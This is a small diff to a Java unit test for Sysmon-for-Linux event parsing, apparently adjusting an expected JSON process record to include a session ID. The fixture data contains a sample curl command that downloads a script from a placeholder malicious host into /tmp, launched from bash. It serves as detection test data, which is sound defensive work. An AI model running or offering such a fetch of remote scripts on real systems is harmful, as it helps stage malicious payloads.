@@ -40,7 +40,7 @@ class SysmonForLinuxTest {
                 "start":"2026-03-02T10:00:05.701Z","executable":"/usr/bin/curl","name":"curl","command_line":"curl -o \
                 /tmp/a.sh https://files.bad.example/a","working_directory":"/home/ada","integrity_level":"no level",\
                 "parent":{"entity_id":"fe8b3f2c-b100-69a5-c8b6-d71555560000","pid":2176,"executable":"/bin/bash",\
-                "command_line":"-bash"}}}""");
+                "command_line":"-bash"},"session_id":"1000"}}""");
     }
 
     @Test
